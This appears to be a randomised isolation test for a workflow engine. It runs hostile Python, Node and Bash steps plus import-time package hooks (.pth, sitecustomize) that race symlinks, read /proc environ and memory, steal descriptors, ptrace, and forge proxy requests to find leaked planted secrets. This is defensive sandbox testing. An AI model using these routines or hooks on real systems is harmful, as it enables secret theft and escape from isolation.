"""
A hostile user whose steps do random things to every path, process and address that they see or guess, while others run beside them.

All choices come from one seed. `RandomWorld` plants tokens and files that no step may see or change, and runs the attacks and the runs of
others. Steps destroy only what is in their own `/tmp`, in the folder of the test, and in the folders of the engine's runs: if a wall
breaks, the machine is not harmed.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import os
import random
import re
import secrets
import time
import venv
from collections.abc import Coroutine, Mapping, Sequence
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

from pdkernel.execution import Execution
from pdkernel.model import Step
from tests.builders import node_step, python_step
from tests.isolation.attacks import WRITABLE, Attackers, new_token, processes_with
from tests.isolation.findings import FOUND, Findings
from tests.isolation.random_caller import HONEST, MALLORIES, CallerWorld

ACTIONS_PER_STEP = 12
ACTIONS_PER_IMPORT = 4
ATTACK_TIMEOUT_S = 4
FIRST_STEP_USER = 2_000_000_000

ATTACK_CLASS = (
    r'''
import ctypes, fcntl, glob, json, mmap, os, random, re, shutil, signal, socket, stat, subprocess, sys, threading, time, urllib.request

FOUND = re.compile(rb"'''
    + FOUND
    + r'''")
libc = ctypes.CDLL(None, use_errno=True)
OPEN = os.O_NONBLOCK | os.O_NOCTTY


class Attack:
    def __init__(self, body):
        self.random = random.Random(body["seed"])
        self.targets = body["targets"]
        self.found, self.done, self.kept = set(), [], []
        root = [line.split() for line in open("/proc/self/mountinfo") if line.split()[4] in ("/tmp", "/dev/shm")]
        self.slot = os.path.dirname(root[0][3]) if root else "/nowhere"
        base, server = self.targets["base"], self.targets["server"]
        self.own = ["/tmp", "/dev/shm", "/tmp/a", "/tmp/b", "/tmp/c/d", "/dev/shm/e", os.getcwd()]
        self.own += [value for name, value in os.environ.items() if name.startswith("PIPEDREAM_")]
        self.slots = [self.slot, f"{self.slot}/tmp", *(f"{os.path.dirname(self.slot)}/{number}" for number in range(1, 6))]
        self.slots += [f"{each}/{name}" for each in self.slots for name in ("tmp", "tmp/work.txt", "go", "exports")]
        self.slots += [f"{each}.passwd" for each in self.slots[:7]]
        self.outside = [*self.targets["planted"], base, f"{base}/project", f"{base}/project/.pdkernel", f"{base}/project/.pdkernel/project.db",
                        f"{base}/project/.pdkernel/files", f"{base}/other"]
        self.system = [f"/proc/{pid}/{name}" for pid in ("self", "1", "2", str(server), str(os.getppid())) for name in
                       ("environ", "maps", "mem", "cmdline", "fd", "root", "cwd", "exe", "root/tmp", "mountinfo", "fd/0", "fd/3", "fd/5", "fd/7", "task", "auxv")]
        self.system += [f"/proc/{pid}/root{path}" for pid in (1, "self", server) for path in self.outside]
        self.system += ["/etc/passwd", "/etc/shadow", "/dev/zero", "/dev/null", "/dev/full", "/dev/ptmx", "/dev/pts/0", "/dev/mem", "/dev/vda", "/sys/kernel", "/sys/fs/cgroup",
                        "/var/tmp", "/run", "/root", "/home", "/dev/mqueue", "/proc/sysvipc/shm", "/proc/keys", "/proc/net/unix", "/proc/sys/kernel/core_pattern"]

    def any(self):
        return self.random.choice(self.random.choice([self.own, self.own, self.slots, self.outside, self.system]))

    def harmless(self):
        """A path that may be destroyed."""
        path = self.random.choice(self.random.choice([self.own, self.own, self.slots, self.outside]))
        if self.random.random() < 0.3:
            path = os.path.join(path, self.random.choice(["a", "x", "..", "../..", "tmp", "exports", "step.sh"]))
        real = os.path.realpath(path)
        safe = ("/tmp", "/dev/shm", self.targets["base"], os.path.dirname(self.slot))
        return path if real.startswith(safe) and len(self.slot) > 9 else "/tmp/a"

    def read(self, path=None):
        path = path or self.any()
        file = os.open(path, os.O_RDONLY | OPEN)
        try:
            if stat.S_ISDIR(os.fstat(file).st_mode):
                self.note("\n".join(os.listdir(file)).encode())
            else:
                self.note(os.read(file, 1 << 16))
        finally:
            os.close(file)

    def note(self, data):
        self.found.update(each.decode() for each in FOUND.findall(data))

    def act(self):
        name = self.random.choice([each for each in dir(self) if each.startswith("do_")])
        try:
            getattr(self, name)()
            self.done.append(name)
        except (OSError, ValueError, OverflowError, AttributeError, shutil.Error):
            pass

    do_read = do_read_again = do_read_once_more = read
    def do_rename(self): os.rename(self.harmless(), self.harmless())
    def do_exchange(self): libc.renameat2(-100, self.harmless().encode(), -100, self.harmless().encode(), 2)
    def do_symlink(self):
        place = self.harmless()
        self.clear(place)
        os.symlink(self.any(), place)
    def do_symlink_folder(self): os.symlink(self.random.choice(self.outside), f"{self.random.choice(self.own[:4])}/{self.random.randrange(9)}")
    def do_link(self): os.link(self.any(), self.harmless(), follow_symlinks=self.random.random() < 0.5)
    def do_link_secret(self): os.link(self.random.choice(self.outside), f"/tmp/link{self.random.randrange(9)}")
    def do_pipe(self):
        place = self.harmless()
        self.clear(place)
        os.mkfifo(place)
    def do_folder(self): os.makedirs(self.harmless(), exist_ok=True)
    def do_device(self): os.mknod(self.harmless(), stat.S_IFCHR | 0o666, os.makedev(1, 1))
    def do_socket(self):
        place = self.harmless()
        self.clear(place)
        self.kept.append(socket.socket(socket.AF_UNIX))
        self.kept[-1].bind(place)
        self.kept[-1].listen()
    def do_mode(self): os.chmod(self.harmless(), self.random.choice([0, 0o777, 0o4755, 0o2777, 0o1777, 0o100, 0o640]))
    def do_owner(self): os.chown(self.harmless(), self.random.choice([0, 65534, os.getuid()]), -1, follow_symlinks=False)
    def do_truncate(self): os.truncate(self.harmless(), self.random.choice([0, 1, 1 << 20, 1 << 40]))
    def do_write(self):
        file = os.open(self.harmless(), os.O_WRONLY | os.O_CREAT | OPEN, 0o666)
        os.write(file, self.random.choice([b"x" * 1000, b"{" * 50000, b"\xff\n=\n", b"a=b\n" * 1000, b"a:json=" + b"[" * 5000, b"9" * 50000]))
        os.close(file)
    def do_unlink(self): os.unlink(self.harmless())
    def do_remove(self): self.clear(self.harmless())
    def clear(self, place):
        if os.path.isdir(place) and not os.path.islink(place):
            shutil.rmtree(place, ignore_errors=True)
        elif os.path.lexists(place):
            os.unlink(place)
    def do_times(self): os.utime(self.harmless(), (0, 0), follow_symlinks=False)
    def do_attribute(self): os.setxattr(self.harmless(), "user.a", b"x" * 100, follow_symlinks=False)
    def do_lock(self):
        self.kept.append(os.open(self.any(), os.O_RDONLY | OPEN))
        fcntl.flock(self.kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
    def do_watch(self):
        file = libc.inotify_init1(os.O_NONBLOCK)
        for _ in range(4):
            libc.inotify_add_watch(file, self.any().encode(), 0xFFF)
        time.sleep(0.01)
        try:
            self.note(os.read(file, 1 << 16))
        finally:
            self.kept.append(file)
    def do_descriptors(self):
        for name in os.listdir("/proc/self/fd"):
            if int(name) > 2 and not stat.S_ISFIFO(os.fstat(int(name)).st_mode) and not stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                self.note(os.pread(int(name), 1 << 16, 0))
    def do_race_thread(self): threading.Thread(target=self.race, args=[self.random.random() / 10], daemon=True).start()
    def do_race_daemon(self):
        if os.fork() == 0:
            os.setsid()
            try:
                self.race(0.5)
            finally:
                os._exit(0)
    def race(self, seconds):
        """Swap names of the slot for links and back, as long as the others work."""
        places, end = [self.harmless() for _ in range(3)], time.monotonic() + seconds
        while time.monotonic() < end:
            for place in [*places, *glob.glob(f"{self.slot}/step-*/*"), *glob.glob(f"{self.slot}/step-*")]:
                try:
                    os.rename(place, f"{place}.away")
                    os.symlink(self.random.choice(self.outside), place)
                    time.sleep(0.0005)
                    os.unlink(place)
                    os.rename(f"{place}.away", place)
                except OSError:
                    continue
    def do_process(self):
        pids = [*filter(str.isdigit, os.listdir("/proc")), str(self.targets["server"])]
        pid = int(self.random.choice(pids))
        for name in ("environ", "cmdline", "maps"):
            try:
                self.read(f"/proc/{pid}/{name}")
            except OSError:
                pass
        os.kill(pid, 0)
    def do_memory_of_process(self):
        pid = self.random.choice([self.targets["server"], os.getppid(), 1])
        for line in open(f"/proc/{pid}/maps").read().splitlines()[:40]:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as file:
                self.note(os.pread(file.fileno(), min(end - start, 1 << 20), start))
    def do_taken_descriptor(self):
        handle = os.pidfd_open(self.random.choice([self.targets["server"], os.getppid()]))
        for number in range(3, 40):
            if (taken := libc.syscall(438, handle, number, 0)) >= 0:
                self.note(os.pread(taken, 1 << 16, 0))
    def do_trace(self): libc.ptrace(16, self.targets["server"], None, None)
    def do_namespace(self):
        if os.fork() == 0:
            try:
                libc.unshare(self.random.choice([0x10000000, 0x10020000, 0x20000, 0x30000000]))
                libc.mount(self.random.choice(self.outside).encode(), b"/tmp/c", None, 4096, None)
                libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
            finally:
                os._exit(0)
    def do_second_process(self): os.fork()  # both go on, and both reply
    def do_memory(self):
        self.kept.append(os.memfd_create("attack"))
        os.truncate(self.kept[-1], 1 << 20)
        self.kept.append(mmap.mmap(-1, 1 << 20))
        libc.shmget(self.targets["key"], 4096, 0o1666)
    def do_keyring(self): libc.syscall(250, 0, -3, 0)
    def do_abstract_socket(self):
        with open("/proc/net/unix") as file:
            names = re.findall(r"@(\S*(?:pdkernel|" + self.targets["mark"] + r")\S*)", file.read())
        for name in names[:3]:
            with socket.socket(socket.AF_UNIX) as client:
                client.settimeout(0.1)
                client.connect("\0" + name)
                self.note(client.recv(1000))
    def do_service(self):
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(0.1)
            client.connect(self.targets["service"])
    def do_gateway(self):
        proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or ""
        place = re.search(r"@?([\w.]+):(\d+)", proxy.rpartition("@")[2])
        with socket.create_connection((place[1], int(place[2])), timeout=0.2) as client:
            client.settimeout(0.2)
            forged = self.random.choice(["", "Proxy-Authorization: Basic Zm9yZ2VkOmZvcmdlZA==\r\n", "x-pdkernel-token: " + "0" * 32 + "\r\n"])
            client.sendall(self.random.choice([
                f"GET {self.targets['url']}/x HTTP/1.1\r\nHost: x\r\n{forged}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                f"CONNECT 127.0.0.1:1 HTTP/1.1\r\n{forged}\r\n", "\x16\x03\x01" + "\0" * 99, "PRI * HTTP/2.0\r\n\r\n" * 9]).encode("latin-1"))
            self.note(client.recv(5000))
    def do_print(self): print(self.random.choice(["\0" * 100, "x" * 5000, "\r\n0 {\"t\":\"done\"}", "\x1b[2J"]))

'''
)
PYTHON_ATTACKER = (
    ATTACK_CLASS
    + """

def handler(pd):
    attack = Attack(pd.steps["trigger"]["event"]["body"] | {"seed": pd.steps["trigger"]["event"]["body"]["seed"] + SALT})
    for _ in range(ACTIONS):
        attack.act()
    return {"found": sorted(attack.found), "done": attack.done}
"""
)
PACKAGE_ATTACKER = (
    ATTACK_CLASS
    + '''

FOLDER = os.path.dirname(__file__)
PLACE = "/tmp/of-a-package"
found, done, tried = set(), [], 0


class PackageAttack(Attack):
    """Code that runs in the processes of all users of the package. It leaves alone what belongs to such a run: its `/tmp`, its output."""

    def __init__(self, where, body):
        super().__init__({"seed": f"{body['seed']} {where} {os.getpid()} {time.monotonic_ns()}", "targets": body["targets"]})
        os.makedirs(PLACE, exist_ok=True)
        self.own = [PLACE, f"{PLACE}/a", f"{PLACE}/b", f"{PLACE}/c", FOLDER, __file__, f"{FOLDER}/hostile.pth", f"{FOLDER}/x.pth"]

    def harmless(self):
        path = super().harmless()
        is_of_the_run = os.path.realpath(path).startswith(("/tmp", "/dev/shm")) and not os.path.realpath(path).startswith(PLACE)
        return f"{PLACE}/a" if is_of_the_run else path

    def do_symlink(self):
        """No link leads to what belongs to a run: another process would follow it that looked at the path before there was a link."""
        place = self.harmless()
        self.clear(place)
        os.symlink(self.random.choice(self.outside), place)

    do_link_secret, do_print, do_second_process = Attack.do_link, Attack.read, Attack.read


def attack(where):
    global tried
    if not os.path.exists(f"{FOLDER}/targets.json"):
        return
    with open(f"{FOLDER}/targets.json") as file:
        body = json.load(file)
    attack = PackageAttack(where, body)
    for _ in range(body["count"]):
        attack.act()
    tried += body["count"]
    found.update(attack.found)
    done.extend(f"{where} {name.removeprefix('do_')}" for name in attack.done)
'''
)
PACKAGE_FILES = {
    "attack_of_packages.py": PACKAGE_ATTACKER,
    "hostile/__init__.py": "import attack_of_packages\nattack_of_packages.attack('import')\n",
    "hostile.pth": "import attack_of_packages; attack_of_packages.attack('.pth')\n",
    "sitecustomize.py": "import attack_of_packages\nattack_of_packages.attack('sitecustomize')\n",
}
EDITABLE = "import attack_of_packages\nattack_of_packages.attack('editable')\n"
PACKAGE_STEP = """
import hostile, editable_hostile
import attack_of_packages

def handler(pd):
    result = {"found": sorted(attack_of_packages.found), "done": [*attack_of_packages.done], "tried": attack_of_packages.tried}
    attack_of_packages.done.clear()
    attack_of_packages.tried = 0
    return result
"""
NODE_ATTACKER = r"""
const fs = process.getBuiltinModule("fs"), path = process.getBuiltinModule("path"), os = process.getBuiltinModule("os");
const FOUND = /REGEX/g;
let state = (steps.trigger.event.body.seed + SALT) >>> 0;
const random = () => { state = (state * 1664525 + 1013904223) >>> 0; return state / 2 ** 32; };
const choose = (list) => list[Math.floor(random() * list.length)];
const targets = steps.trigger.event.body.targets, found = new Set(), done = [];
const root = fs.readFileSync("/proc/self/mountinfo", "utf8").split("\n").map((line) => line.split(" ")).find((line) => line[4] === "/tmp");
const slot = root ? path.dirname(root[3]) : "/nowhere", slots = path.dirname(slot);
const own = ["/tmp", "/dev/shm", "/tmp/a", "/tmp/b", "/tmp/c/d", process.cwd()];
const outside = [...targets.planted, targets.base, `${targets.base}/project/.pdkernel`, `${targets.base}/project/.pdkernel/files`];
const near = [slot, `${slot}/tmp`, `${slots}/1/tmp`, `${slots}/2/tmp`, `${slots}/3/tmp/work.txt`, slots];
const far = ["environ", "mem", "maps", "fd", "root/tmp"].flatMap((name) => ["self", "1", targets.server, process.ppid].map((pid) => `/proc/${pid}/${name}`));
const any = () => choose(choose([own, near, outside, far]));
const harmless = () => {
  const place = choose(choose([own, own, near, outside]));
  let real = place; try { real = fs.realpathSync(place); } catch {}
  return ["/tmp", "/dev/shm", targets.base, slots].some((safe) => real.startsWith(safe)) && slots.length > 9 ? place : "/tmp/a";
};
const note = (text) => { for (const each of String(text).match(FOUND) ?? []) found.add(each); };
const read = () => {
  const place = any(), file = fs.openSync(place, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
  try {
    if (fs.fstatSync(file).isDirectory()) note(fs.readdirSync(place).join("\n"));
    else { const data = Buffer.alloc(65536); note(data.toString("latin1", 0, fs.readSync(file, data))); }
  } finally { fs.closeSync(file); }
};
const actions = {
  read, readAgain: read, readMore: read,
  rename: () => fs.renameSync(harmless(), harmless()),
  symlink: () => { const place = harmless(); fs.rmSync(place, { recursive: true, force: true }); fs.symlinkSync(any(), place); },
  link: () => fs.linkSync(any(), harmless()),
  write: () => fs.writeFileSync(harmless(), choose(["x", "{".repeat(9999)]), { flag: fs.constants.O_WRONLY | fs.constants.O_CREAT | fs.constants.O_NONBLOCK }),
  mode: () => fs.chmodSync(harmless(), choose([0, 0o777, 0o4755])),
  owner: () => fs.lchownSync(harmless(), 0, 0),
  truncate: () => fs.truncateSync(harmless(), choose([0, 1 << 20])),
  remove: () => fs.rmSync(harmless(), { recursive: true, force: true }),
  copy: () => fs.cpSync(any(), harmless()),
  watch: () => fs.watch(any(), () => {}).unref(),
  patch: () => { choose([Object, Array.prototype, JSON, Promise.prototype, fs])[choose(["entries", "then", "map", "stringify", "parse"])] = () => "patched"; },
  signal: () => process.kill(targets.server, 0),
  trigger: () => $.flow.trigger(choose(["Attacked", targets.base, "../other", targets.planted[0], "/tmp/a"]), { headers: { "x-pd-external-user-id": "ada", "x-pd-environment": "production" } }),
  child: () => $.flow.trigger("Attacked", {}, { externalUserId: "ada" }),
  connect: () => process.getBuiltinModule("net").connect(choose([targets.service, "\0" + targets.mark])).on("error", () => {}).unref(),
  race: () => { const place = harmless(), end = Date.now() + 30; while (Date.now() < end) { fs.renameSync(place, place + "1"); fs.symlinkSync(choose(outside), place); fs.unlinkSync(place); fs.renameSync(place + "1", place); } },
};
const known = Object.keys(actions).filter((name) => name !== "patch"), last = random() < 0.2 ? ["patch"] : [];
for (const name of [...Array.from({ length: ACTIONS }, () => choose(known)), ...last]) {
  try { await actions[name](); done.push(name); } catch {}
}
return { found: [...found], done };
"""
BASH_LINES = (
    "mv -f $OWN $OWN",
    "mv -f $OWN /tmp/moved",
    "ln -sfn $ANY $OWN",
    "rm -rf $OWN; ln -s $ANY $OWN",
    "ln -f $ANY $OWN",
    "rm -f $OWN; mkfifo $OWN",
    "rm -rf $OWN; mkdir -p $OWN/inner",
    "chmod $MODE $OWN",
    "truncate -s $SIZE $OWN",
    "cat $ANY | head -c 65536 > /tmp/read; note /tmp/read",
    "ls -la $ANY > /tmp/read; note /tmp/read",
    "cp -f $ANY $OWN",
    "echo 'x=y' >> $OWN",
    "head -c 300000 /dev/zero | tr '\\0' '\\n' >> $PIPEDREAM_EXPORTS",
    "mknod $OWN c 1 5",
    "sed -i s/a/b/ $OWN",
    "cat /proc/$PID/environ /proc/$PID/cmdline > /tmp/read; note /tmp/read",
    "cat <&$FD > /tmp/read & sleep 0.02; kill $!; note /tmp/read",
    "kill -0 $PID",
    "printf 'a:json=%s\\n' \"$(head -c 20000 /dev/zero | tr '\\0' '[')\" >> $PIPEDREAM_EXPORTS",
    "rm -rf $SLOT/tmp; ln -s $SECRET $SLOT/tmp",
    "mv $SLOT/tmp $SLOT/away; ln -s $SECRET $SLOT/tmp",
    "rm -rf ${PIPEDREAM_EXPORTS%/*}; ln -s $SECRET ${PIPEDREAM_EXPORTS%/*}",
    "(setsid bash -c 'while :; do for f in $0/step-*/exports $0/step-*/response; do mv $f $f.1; ln -s $1 $f; mv -f $f.1 $f; done; done' $SLOT $SECRET $MARK > /dev/null 2>&1 &)",
    "(setsid bash -c 'while :; do mv $0/tmp $0/t; ln -s $1 $0/tmp; rm $0/tmp; mv $0/t $0/tmp; done' $SLOT $SECRET $MARK > /dev/null 2>&1 &)",
    "(setsid bash -c 'for ((i = 0; i < 200; i++)); do for f in $0/step-*; do mv $f $f.1; ln -s $1 $f; sleep 0.001; rm $f; mv $f.1 $f; done; done' $SLOT ${SECRET%/*} $MARK > /dev/null 2>&1 &)",
)
HONEST_PYTHON = """
import os, pathlib, time
body = pd.steps["trigger"]["event"]["body"]
pathlib.Path("/tmp/work.txt").write_text(body["token"])
time.sleep(body["wait"])
return {"token": pathlib.Path("/tmp/work.txt").read_text(), "sum": 40 + 2, "left": [name for name in os.listdir("/tmp") if len(name) < 3 or name.startswith(("link", "moved", "read"))]}
"""
HONEST_BASH = """token=$(jq -r .trigger.event.body.token "$PIPEDREAM_STEPS")
echo "$token" > /tmp/bash.txt
echo "token=$(cat /tmp/bash.txt)" >> "$PIPEDREAM_EXPORTS"
echo "before=$(jq -r '.honest["$return_value"].token' "$PIPEDREAM_STEPS")" >> "$PIPEDREAM_EXPORTS"
"""
HONEST_NODE = "return { entries: Object.entries({ a: 1 }), text: JSON.stringify([1, 'b']), token: steps.trigger.event.body.token };"


class RandomWorld:
    """
    Planted files and tokens in the folder of a test, and the runs of attackers and of others.

    Args:
        attackers: The engine, whose project is in *base*`/project`.
        base: The folder of the test.
        packages: The folder of the packages of `plant_packages`.
        findings: Where results are added.
        seed: The seed of all choices.
        callers: The server that attackers call, or None.
    """

    def __init__(
        self,
        attackers: Attackers,
        base: Path,
        packages: Path,
        findings: Findings,
        seed: int,
        callers: CallerWorld | None = None,
    ) -> None:
        self.findings = findings
        self._callers = callers
        self._attackers = attackers
        self._base = base
        self._random = random.Random(seed)
        self._tokens = {name: new_token(name) for name in ("env", "outside", "other", "project", "server")}
        self._planted: dict[Path, tuple[Any, ...]] = {}
        for name, path in {
            "project": base / "project" / ".pdkernel" / "planted",
            "other": base / "other" / ".env",
            "outside": base / "outside" / "file.txt",
            "env": base / "other" / ".pdkernel" / "key",
        }.items():
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(f"SECRET={self._tokens[name]}\n")
        attackers.targets |= {"base": str(base)}
        self._watched = [
            base / "project" / ".pdkernel" / "planted",
            base / "project" / ".pdkernel" / "key",
            base / "other" / ".env",
            base / "other" / ".pdkernel" / "key",
            base / "outside" / "file.txt",
            *(base / name for name in ("outside", "other", "project")),
            packages,
            *(packages / name for name in PACKAGE_FILES),
        ]
        self._secret_texts = {
            *self._tokens.values(),
            (base / "project" / ".pdkernel" / "key").read_text(errors="replace").strip(),
        }
        planted = [str(path) for path in self._watched if path.is_file() and packages not in path.parents]
        attackers.targets["planted"] = planted
        body = {"targets": attackers.targets, "seed": seed, "count": ACTIONS_PER_IMPORT}
        (packages / "targets.json").write_text(json.dumps(body))
        self._facts = self._read_facts()

    def _read_facts(self) -> dict[str, tuple[Any, ...] | None]:
        facts: dict[str, tuple[Any, ...] | None] = {}
        for path in self._watched:
            found = path.lstat() if os.path.lexists(path) else None
            facts[str(path)] = found and (
                found.st_ino,
                found.st_mode,
                found.st_uid,
                found.st_gid,
                found.st_nlink if path.is_file() else 0,
                path.read_bytes() if path.is_file() else sorted(each.name for each in path.iterdir()),
            )
        return facts

    async def run(self, rounds: int) -> Findings:
        """Let attackers take *rounds* actions, with runs of others beside them, and return what broke."""
        mounts, files = Path("/proc/self/mountinfo").read_text(), _files_of_steps()
        watching = asyncio.create_task(self._watch_loop())
        try:
            for batch in itertools.count():
                if self.findings.rounds >= rounds:
                    break
                await asyncio.gather(
                    *(self._attack(f"mallory{letter}", batch) for letter in "ab"),
                    *(self._work(user) for user in ("ada", "bob", None)),
                    *self._calls(),
                )
                if self._callers is not None:
                    await self._callers.check_runs()
                self._compare(f"batch {batch}")
        finally:
            watching.cancel()
        if Path("/proc/self/mountinfo").read_text() != mounts:
            self.findings.left.append("mounts of the server")
        for _ in range(100):
            left = [*processes_with(self._attackers.targets["mark"]).values(), *(_files_of_steps() - files)]
            if not left:
                break
            await asyncio.sleep(0.05)
        self.findings.left += left
        return self.findings

    def _calls(self) -> list[Coroutine[Any, Any, None]]:
        if self._callers is None:
            return []
        return [*map(self._callers.attack, MALLORIES), *map(self._callers.work, HONEST)]

    async def _watch_loop(self) -> None:
        while True:
            began = time.monotonic()
            await asyncio.sleep(0.01)
            self.findings.longest_stop_s = max(self.findings.longest_stop_s, time.monotonic() - began)

    def _compare(self, when: str) -> None:
        facts = self._read_facts()
        self.findings.changed += [
            f"{path}, {when}: {known} -> {facts[path]}" for path, known in self._facts.items() if facts[path] != known
        ]
        self._facts = facts

    async def _attack(self, user: str, batch: int) -> None:
        steps = self._attack_steps()
        token = new_token(user)
        body = {"token": token, "seed": self._random.randrange(1 << 30)}
        execution = await self._attackers.run(steps, user, body)
        record = _record(execution)
        allowed = {token, f"xoxb-{user}-0123456789"}
        for step in execution.steps:
            value = step.exports.get("$return_value")
            returned: Mapping[str, Any] = value if isinstance(value, dict) else {}
            tried = returned.get("tried", ACTIONS_PER_STEP)
            self.findings.rounds += tried if step.status in ("success", "error") else 0
            self.findings.done.update(returned.get("done", ()))
            self.findings.errors.update([str(step.error)[:120]] if step.error else [])
        for found in {*re.findall(FOUND, record), *(each for each in self._secret_texts if each in record)} - allowed:
            if not re.match(rf"tok-{user}-", found):  # of an earlier run of the same user
                self.findings.seen.append((f"{user} in batch {batch}", found))

    def _attack_steps(self) -> list[Step]:
        salts = [self._random.randrange(1 << 30) for _ in range(3)]

        def fill(text: str, salt: int) -> str:
            return text.replace("SALT", str(salt)).replace("ACTIONS", str(ACTIONS_PER_STEP))

        node = fill(NODE_ATTACKER, salts[2]).replace("REGEX", FOUND)
        steps = [
            Step("first_shell", "bash", self._bash_attack()),
            Step("python", "python", fill(PYTHON_ATTACKER, salts[0])),
            Step("second_shell", "bash", self._bash_attack()),
            node_step("node", node),
            Step("python_again", "python", fill(PYTHON_ATTACKER, salts[1])),
            Step("packages", "python", PACKAGE_STEP),
        ]
        steps = [replace(step, timeout_s=ATTACK_TIMEOUT_S) for step in steps]
        return self._random.sample(steps, self._random.randint(1, 3))  # the first error of a step ends a run

    def _bash_attack(self) -> str:
        targets = self._attackers.targets
        own = [
            "$PIPEDREAM_EXPORTS",
            "$PIPEDREAM_STEPS",
            "$PIPEDREAM_RESPONSE",
            "${PIPEDREAM_EXPORTS%/*}",
            "$SLOT/tmp",
            "$SLOT",
        ]
        own += ["/tmp/a", "/tmp/b", "/dev/shm/c", "/tmp/work.txt", f"{targets['base']}/outside/file.txt"]
        secret = [
            *targets["planted"],
            f"/proc/{targets['server']}/environ",
            f"{targets['base']}/project/.pdkernel/project.db",
        ]
        anything = [
            *own,
            *secret,
            "/proc/self/environ",
            "/dev/zero",
            "/dev/stdin",
            "/proc/1/environ",
            "/etc/passwd",
            "/proc/self/fd/3",
        ]
        lines = []
        for _ in range(ACTIONS_PER_STEP):
            line = self._random.choice(BASH_LINES)
            while match := re.search(r"\$(OWN|ANY|SECRET|MODE|SIZE|PID|FD|MARK)\b|\$\{SECRET%/\*\}", line):
                kind = match[1] or "FOLDER"
                value = {
                    "OWN": self._random.choice(own),
                    "ANY": self._random.choice(anything),
                    "SECRET": self._random.choice(secret),
                    "FOLDER": str(Path(self._random.choice(targets["planted"])).parent),
                    "MODE": self._random.choice(["000", "777", "4755", "100"]),
                    "SIZE": self._random.choice(["0", "1", "100M", "1T"]),
                    "PID": str(self._random.choice([1, 2, targets["server"]])),
                    "FD": str(self._random.randrange(3, 12)),
                    "MARK": targets["mark"],
                }[kind]
                line = line[: match.start()] + value + line[match.end() :]
            lines.append(line)
        intro = f"""SLOT=$(awk '$5 == "/tmp" {{ sub("/tmp$", "", $4); print $4 }}' /proc/self/mountinfo | head -1)
[[ $SLOT == */pdkernel-run-*/* ]] || SLOT=/tmp/nowhere
note() {{ grep -aoE '{FOUND}' "$1" | sed 's/^/found=/' >> "$PIPEDREAM_EXPORTS"; }}
exec 2> /dev/null
ulimit -f 20000
"""
        return intro + "\n".join(lines) + "\n"

    async def _work(self, user: str | None) -> None:
        token = new_token(user or "none")
        steps = [
            python_step("honest", HONEST_PYTHON),
            Step("shell", "bash", HONEST_BASH),
            node_step("node", HONEST_NODE),
        ]
        body: Mapping[str, Any] = {"token": token, "wait": self._random.random() / 10}
        execution = await self._attackers.run(steps, user, body)
        who = user or "none"
        expected = [
            {"$return_value": {"token": token, "sum": 42, "left": []}},
            {"token": token, "before": token},
            {"$return_value": {"entries": [["a", 1]], "text": '[1,"b"]', "token": token}},
        ]
        results = [dict(step.exports) for step in execution.steps]
        if results != expected:
            self.findings.wrong.append((who, [results, str(execution.error)]))
        stray = set(re.findall(FOUND, _record(execution))) - {token}
        self.findings.seen += [(who, found) for found in stray]


def plant_packages(base: Path) -> Path:
    """
    Create an environment of hostile packages, one of them editable, for the project in *base*`/project`.

    Returns the folder of the packages.
    """
    environment = base / "project" / ".pdkernel" / "packages" / "python" / "hostile"
    venv.EnvBuilder(symlinks=True, with_pip=False).create(environment)
    [packages] = environment.glob("lib/python*/site-packages")
    sources = base / "project" / "sources"
    files = {packages / name: text for name, text in PACKAGE_FILES.items()}
    files |= {packages / "editable.pth": f"{sources}\n", sources / "editable_hostile" / "__init__.py": EDITABLE}
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return packages


def _files_of_steps() -> set[str]:
    """Files of users that only steps have, in the folders that every program may write."""
    found = set()
    for path in (path for folder in WRITABLE[:3] for path in Path(folder).iterdir()):
        with suppress(FileNotFoundError):  # of another program
            if path.lstat().st_uid > FIRST_STEP_USER:
                found.add(str(path))
    return found


def _record(execution: Execution) -> str:
    """All that the record of a run says."""
    steps: Sequence[Any] = execution.steps
    parts = [
        [dict(step.exports), [log.text for log in step.logs], str(step.error), str(step.requests)] for step in steps
    ]
    return json.dumps([parts, str(execution.error), str(execution.response)], default=str)


def choose_seed() -> int:
    """The seed of `PDKERNEL_SEED`, or a new one."""
    return int(os.environ.get("PDKERNEL_SEED") or secrets.randbelow(1 << 31))
